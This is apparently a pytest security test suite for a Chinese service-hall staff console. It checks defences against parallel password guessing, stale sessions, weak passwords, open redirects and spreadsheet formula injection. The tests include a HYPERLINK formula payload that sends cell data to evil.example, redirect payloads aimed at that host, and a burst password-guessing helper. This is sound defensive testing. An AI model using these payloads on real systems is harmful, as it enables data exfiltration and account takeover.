"""Staff accounts under attack, over real HTTP: password guessing in parallel and from many
machines, sessions that outlive their account, weak passwords, formula names, where the page
goes after the login, cookies behind TLS, and page views that must not fill the memory.

Each guessing test speaks from its own local address (the whole 127/8 is this machine), so
that the slow-down it causes does not reach the other tests' logins."""
from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
import re
import sqlite3
import zipfile

import aiohttp
import openpyxl
import pytest
import requests

from conftest import STAFF
from queue_server.login_limits import ATTACK_FAILURES, FREE_TRIES
from queue_server.web import start_console

CHINESE = re.compile(r"[\u4e00-\u9fff]")


class Client:
    """A script on one machine of the hall network: its own address, its own cookie."""

    def __init__(self, hall, address: str = "127.0.0.1"):
        self.url = hall.url
        self.http = requests.Session()
        self.http.mount("http://", SourceAdapter(address))
        self.csrf = self.http.get(self.url + "/api/session", timeout=5).json()["csrf"]

    def login(self, staff: str, password: str | None = None, window: str | None = None) -> requests.Response:
        body = {"staff": staff, "password": password or STAFF[staff][2], **({"window": window} if window else {})}
        answer = self.http.post(self.url + "/api/session", json=body, headers={"X-CSRF-Token": self.csrf}, timeout=10)
        if answer.status_code == 200:
            self.csrf = answer.json()["csrf"]
        return answer

    def get(self, path: str, **kw) -> requests.Response:
        return self.http.get(self.url + path, timeout=10, **kw)

    def post(self, path: str, body: dict) -> requests.Response:
        return self.http.post(self.url + path, json=body, headers={"X-CSRF-Token": self.csrf}, timeout=10)


class SourceAdapter(requests.adapters.HTTPAdapter):
    def __init__(self, address: str):
        self.address = address
        super().__init__()

    def init_poolmanager(self, *args, **kwargs):
        kwargs["source_address"] = (self.address, 0)
        super().init_poolmanager(*args, **kwargs)


def refused(answer: requests.Response, status: int, text: str | None = None) -> None:
    assert answer.status_code == status, (answer.status_code, answer.text)
    message = answer.json()["error"]["message"]
    assert CHINESE.search(message) and (text is None or text in message), message


# -- password guessing -------------------------------------------------------------------------
async def burst(hall, address: str, staff: str, passwords: list[str]) -> list[int]:
    """Every password at once, each on its own connection, from one machine."""
    connector = aiohttp.TCPConnector(limit=0, local_addr=(address, 0))
    async with aiohttp.ClientSession(connector=connector) as http:
        async with http.get(hall.url + "/api/session") as r:
            csrf, cookie = (await r.json())["csrf"], r.cookies["yc_session"].value
        headers = {"X-CSRF-Token": csrf, "Cookie": f"yc_session={cookie}"}

        async def one(password: str) -> int:
            async with http.post(hall.url + "/api/session", json={"staff": staff, "password": password},
                                 headers=headers) as r:
                return r.status
        return await asyncio.gather(*(one(p) for p in passwords))


def test_300_parallel_guesses_do_not_let_the_right_password_in(hall):
    guesses = [f"guess-{i:04d}" for i in range(299)] + [STAFF["m01"][2]]
    statuses = asyncio.run(burst(hall, "127.0.0.21", "m01", guesses))
    assert statuses[-1] == 429                                   # the right one came too late
    assert statuses.count(401) <= FREE_TRIES and statuses.count(200) == 0
    assert statuses.count(429) >= 300 - FREE_TRIES


def test_a_strangers_guesses_do_not_lock_the_manager_out(hall):
    """Guesses from ten machines put the account under attack: they all wait the longest,
    the admin at their own PC logs in at once."""
    answers = []
    for machine in range(10):
        stranger = Client(hall, f"127.0.0.{30 + machine}")
        answers += [stranger.login("a01", f"guess-{machine}-{i}").status_code for i in range(ATTACK_FAILURES // 10 + 1)]
    assert answers.count(401) >= ATTACK_FAILURES and 429 in answers
    refused(Client(hall, "127.0.0.30").login("a01"), 429, "秒后再试")       # a guessing machine waits
    assert Client(hall, "127.0.0.23").login("a01").status_code == 200      # the admin at their own PC


# -- sessions ----------------------------------------------------------------------------------
def test_page_views_without_a_cookie_keep_nothing_on_the_server(hall):
    sessions = hall.console.console.sessions
    before = len(sessions)
    for path in ("/login", "/screen", "/api/session", "/") * 150:
        requests.get(hall.url + path, timeout=5, allow_redirects=False)
    assert len(sessions) == before
    assert Client(hall).login("m01").status_code == 200                   # the login works as before
    assert len(sessions) == before + 1


def test_changing_an_account_ends_its_sessions_and_its_window(hall):
    admin = Client(hall)
    assert admin.login("a01").status_code == 200
    assert admin.post("/api/staff", {"staff_id": "a02", "name": "周管理", "role": "admin",
                                     "password": "another-admin-pw"}).status_code == 200
    second = Client(hall)
    assert second.login("a02", "another-admin-pw").status_code == 200
    assert admin.post("/api/staff/a02", {"active": False}).json() == {"ok": True}
    refused(second.get("/api/staff"), 401)                                # the disabled admin is out
    refused(second.post("/api/staff/a02", {"active": True}), 401)         # and cannot re-enable itself
    refused(second.post("/api/staff", {"staff_id": "a03", "name": "冒充", "role": "admin",
                                       "password": "third-admin-pw"}), 401)
    # a new password: the staff member's browser and window are logged out
    window = Client(hall)
    assert window.login("w03", window="3").status_code == 200
    assert admin.post("/api/staff/w03", {"password": "chuangkou-new"}).json() == {"ok": True}
    refused(window.get("/api/window"), 401)
    assert hall.service.retained_states()["window/3/state"]["state"] == "closed"
    # a new role
    manager = Client(hall)
    assert manager.login("m01").status_code == 200
    assert admin.post("/api/staff/m01", {"role": "window"}).json() == {"ok": True}
    refused(manager.get("/api/dashboard"), 401)
    assert admin.post("/api/staff/m01", {"role": "manager"}).json() == {"ok": True}


def test_an_account_disabled_by_the_command_line_is_logged_out_of_the_console(hall):
    """`yichuang staff disable` writes the database from another process."""
    manager = Client(hall)
    assert manager.login("m01").status_code == 200
    hall.service.staff.set_active("m01", False)
    try:
        refused(manager.get("/api/dashboard"), 401)
    finally:
        hall.service.staff.set_active("m01", True)
    refused(manager.get("/api/dashboard"), 401)       # enabling it again does not revive the session


def test_the_last_admin_cannot_be_disabled_or_demoted(hall):
    admin = Client(hall)
    assert admin.login("a01").status_code == 200
    for change in ({"active": False}, {"role": "manager"}):
        refused(admin.post("/api/staff/a01", change), 400, "至少要保留一个启用的系统管理员账号")
    assert admin.get("/api/staff").status_code == 200


# -- what may be typed in ------------------------------------------------------------------------
@pytest.mark.parametrize("password,said", [("123456", "至少8位"), (" " * 6, "至少8位"), (" " * 10, "同一个字符或空格"),
                                           ("1111111111", "同一个字符"), ("woaini1314", "太常见"),
                                           ("Password123", "太常见"), ("qq123456", "太常见")])
def test_weak_passwords_are_refused_for_every_account(hall, password, said):
    admin = Client(hall)
    assert admin.login("a01").status_code == 200
    refused(admin.post("/api/staff", {"staff_id": "w20", "name": "吴新", "role": "window", "password": password}),
            400, said)
    refused(admin.post("/api/staff/a01", {"password": password}), 400, said)


def test_a_formula_name_is_refused_and_an_old_one_exports_as_text(hall):
    admin = Client(hall)
    assert admin.login("a01").status_code == 200
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
    refused(admin.post("/api/staff", {"staff_id": "w21", "name": formula, "role": "window",
                                      "password": "chuangkou21"}), 400, "姓名不能以")
    # a name stored before the check: it serves a ticket and the day is exported
    db = sqlite3.connect(hall.service.store.path)
    db.execute("UPDATE staff SET name = ? WHERE staff_id = 'w04'", [formula])
    db.commit()
    try:
        hall.issue("zonghe")
        hall.service.handle("window", "4", "window.login", {"staff": "w04", "password": STAFF["w04"][2]})
        hall.service.handle("window", "4", "window.call_next", {})
        hall.service.handle("window", "4", "window.finish", {})
        hall.service.handle("window", "4", "window.logout", {})
        manager = Client(hall)
        assert manager.login("m01").status_code == 200
        table = list(csv.reader(io.StringIO(manager.get("/api/export/tickets.csv").content.decode("utf-8-sig"))))
        assert "'" + formula in [cell for row in table for cell in row]
        book = manager.get("/api/export/tickets.xlsx").content
        cells = [c for row in openpyxl.load_workbook(io.BytesIO(book)).active.iter_rows() for c in row
                 if c.value and "HYPERLINK" in str(c.value)]
        assert cells and all(c.data_type == "s" and c.value == formula for c in cells)
        sheet_xml = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    finally:
        db.execute("UPDATE staff SET name = ? WHERE staff_id = 'w04'", [STAFF["w04"][0]])
        db.commit()


# -- after the login ---------------------------------------------------------------------------------
@pytest.mark.parametrize("next_", ["/%5Cevil.example/manage", "/%09/evil.example/manage", "//evil.example/manage",
                                   "https://evil.example/manage", "/%5C%5Cevil.example"])
def test_the_login_page_goes_nowhere_but_this_console(hall, browser, next_):
    page = browser.new_context().new_page()
    page.goto(hall.url + "/login?next=" + next_)
    page.fill("input[name=staff]", "m01")
    page.fill("input[name=password]", STAFF["m01"][2])
    page.click("button[type=submit]")
    page.wait_for_url(hall.url + "/manage", timeout=10000)
    page.context.close()


def test_the_login_page_still_goes_on_to_the_page_asked_for(hall, browser):
    page = browser.new_context().new_page()
    page.goto(hall.url + "/manage/report")                 # -> /login?next=/manage/report
    page.fill("input[name=staff]", "m01")
    page.fill("input[name=password]", STAFF["m01"][2])
    page.click("button[type=submit]")
    page.wait_for_url(hall.url + "/manage/report", timeout=10000)
    page.context.close()


# -- behind TLS ----------------------------------------------------------------------------------
def test_behind_tls_the_cookie_is_secure_and_hsts_is_sent(hall):
    server = dataclasses.replace(hall.config.server, console_behind_tls=True)
    tls = start_console(hall.service, dataclasses.replace(hall.config, server=server), host="127.0.0.1", port=0)
    try:
        answer = requests.get(tls.url + "/login", timeout=5)
        assert "Secure" in answer.headers["Set-Cookie"] and "HttpOnly" in answer.headers["Set-Cookie"]
        assert answer.headers["Strict-Transport-Security"] == "max-age=31536000"
    finally:
        tls.stop()
    plain = requests.get(hall.url + "/login", timeout=5)          # plain HTTP (the default): neither
    assert "Secure" not in plain.headers["Set-Cookie"] and "Strict-Transport-Security" not in plain.headers
